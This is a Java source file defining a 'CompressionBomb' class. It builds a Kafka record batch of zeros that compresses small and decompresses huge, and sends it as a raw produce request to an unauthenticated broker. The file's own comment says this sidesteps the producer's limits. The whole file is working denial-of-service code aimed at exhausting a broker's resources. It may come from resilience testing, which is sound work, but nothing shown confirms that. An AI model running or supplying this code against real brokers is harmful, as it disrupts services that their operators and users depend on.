// SPDX-License-Identifier: Apache-2.0
package doorstep.process;

import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.Optional;
import org.apache.kafka.common.compress.Compression;
import org.apache.kafka.common.message.ProduceRequestData;
import org.apache.kafka.common.message.ProduceRequestData.PartitionProduceData;
import org.apache.kafka.common.message.ProduceRequestData.TopicProduceData;
import org.apache.kafka.common.message.ProduceRequestData.TopicProduceDataCollection;
import org.apache.kafka.common.protocol.ApiKeys;
import org.apache.kafka.common.protocol.ByteBufferAccessor;
import org.apache.kafka.common.protocol.Errors;
import org.apache.kafka.common.record.TimestampType;
import org.apache.kafka.common.record.internal.CompressionType;
import org.apache.kafka.common.record.internal.MemoryRecords;
import org.apache.kafka.common.record.internal.MemoryRecordsBuilder;
import org.apache.kafka.common.requests.ProduceRequest;
import org.apache.kafka.common.requests.ProduceResponse;
import org.apache.kafka.common.requests.RequestHeader;
import org.apache.kafka.common.requests.ResponseHeader;

/**
 * A record batch of zeros that is small when compressed and huge when decompressed. It is sent to the broker as a raw
 * produce request, because a producer's own limits would refuse it. Needs the memory of one record.
 *
 * @param records number of records in the batch
 * @param recordBytes number of zeros in the value of each record
 */
public record CompressionBomb(CompressionType codec, int records, int recordBytes) {
    private static final short VERSION = 12; // the last version that identifies topics by name
    private static final int TIMEOUT_MS = 120_000;
    private static final byte[] KEY = {'b'};

    /** The batch in the form that a producer would send. */
    public MemoryRecords batch() {
        MemoryRecordsBuilder builder = MemoryRecords.builder(
                ByteBuffer.allocate(1 << 16), (byte) 2, Compression.of(codec).build(), TimestampType.CREATE_TIME, 0);
        byte[] zeros = new byte[recordBytes];
        for (int i = 0; i < records; i++) {
            builder.append(0, KEY, zeros);
        }
        return builder.build();
    }

    /**
     * Sends the batch to a broker that requires no authentication.
     *
     * @param broker {@code host:port} of the partition's leader
     * @return the broker's error code; empty if it closed the connection
     */
    public Optional<Errors> send(String broker, String topic, int partition) {
        ProduceRequest request = new ProduceRequest.Builder(
                        VERSION,
                        VERSION,
                        new ProduceRequestData()
                                .setAcks((short) -1)
                                .setTimeoutMs(TIMEOUT_MS)
                                .setTopicData(new TopicProduceDataCollection(List.of(new TopicProduceData()
                                        .setName(topic)
                                        .setPartitionData(List.of(new PartitionProduceData()
                                                .setIndex(partition)
                                                .setRecords(batch())))))))
                .build(VERSION);
        ByteBuffer bytes = request.serializeWithHeader(new RequestHeader(ApiKeys.PRODUCE, VERSION, "bomb", 0));
        int colon = broker.lastIndexOf(':');
        try (Socket socket = new Socket(broker.substring(0, colon), Integer.parseInt(broker.substring(colon + 1)))) {
            socket.setSoTimeout(TIMEOUT_MS);
            DataOutputStream out = new DataOutputStream(socket.getOutputStream());
            out.writeInt(bytes.remaining());
            out.write(bytes.array(), bytes.arrayOffset() + bytes.position(), bytes.remaining());
            out.flush();
            DataInputStream in = new DataInputStream(socket.getInputStream());
            byte[] answer = new byte[in.readInt()];
            in.readFully(answer);
            return Optional.of(errorIn(ByteBuffer.wrap(answer)));
        } catch (EOFException e) {
            return Optional.empty();
        } catch (IOException e) {
            throw new UncheckedIOException("cannot send a batch to " + broker, e);
        }
    }

    private static Errors errorIn(ByteBuffer answer) {
        ResponseHeader.parse(answer, ApiKeys.PRODUCE.responseHeaderVersion(VERSION));
        return Errors.forCode(ProduceResponse.parse(new ByteBufferAccessor(answer), VERSION).data().responses().stream()
                .flatMap(topic -> topic.partitionResponses().stream())
                .findFirst()
                .orElseThrow()
                .errorCode());
    }
}
